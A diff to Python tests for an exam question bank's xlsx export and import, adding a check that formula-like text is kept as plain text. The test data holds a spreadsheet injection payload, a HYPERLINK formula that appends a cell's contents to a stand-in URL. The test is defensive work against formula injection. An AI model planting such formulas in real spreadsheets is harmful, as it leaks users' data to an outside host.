@@ -46,8 +46,8 @@ def test_valid_json_is_imported(db):
 @pytest.mark.parametrize(
     ("row", "problem"),
     [
-        (dict(GOOD, options=["а", "б"]), "вариантов ответа 2"),
-        (dict(GOOD, options=["а", "б", "в", "г", "д", "е", "ж"]), "вариантов ответа 7"),
+        (dict(GOOD, options=["а", "б"]), "указано 2 варианта ответа"),
+        (dict(GOOD, options=["а", "б", "в", "г", "д", "е", "ж"]), "указано 7 вариантов ответа"),
         (dict(GOOD, correct=[]), "не указаны правильные варианты"),
         (dict(GOOD, correct=[4]), "вне списка"),
         (dict(GOOD, correct=[1, 2, 3]), "все варианты отмечены"),
@@ -91,6 +91,35 @@ def test_xlsx_export_and_import_round_trip(db):
     report = bank.bank_import(rows=rows, topics=topics, blueprint=blueprint, by=None)
     assert report.ok and report.created == 10
     assert Question.objects.get(code="Q0005").current.correct == [0, 2]
+
+
+def test_a_text_that_looks_like_a_formula_stays_text_in_the_xlsx_export(db):
+    from openpyxl import load_workbook
+
+    from tests.conftest import bank_question
+
+    formula = '=HYPERLINK("http://example.com/?"&A1,"Подробнее")'
+    options = ["+7 дней", "-1 день", "@SUM(A1:A9)"]
+    bank_question("F1", topic=1, text=formula, options=options, correct=[0])
+    exported = bank.bank_export_xlsx()
+    sheet = load_workbook(BytesIO(exported)).active
+    header = [cell.value for cell in sheet[1]]
+    row = {name: cell for name, cell in zip(header, sheet[2], strict=False)}
+    for name, value in [
+        ("text", formula),
+        ("option_1", "+7 дней"),
+        ("option_2", "-1 день"),
+        ("option_3", "@SUM(A1:A9)"),
+    ]:
+        assert (row[name].data_type, row[name].value) == ("s", value)
+    # And the file imports back as it was (a formula cell would come back empty).
+    from exam.models import QuestionVersion
+
+    Question.objects.update(current=None)
+    QuestionVersion.objects.all().delete()
+    Question.objects.all().delete()
+    assert import_xlsx(exported).ok
+    assert Question.objects.get(code="F1").current.text == formula
 
 
 def test_json_export_round_trips_with_the_blueprint(db):
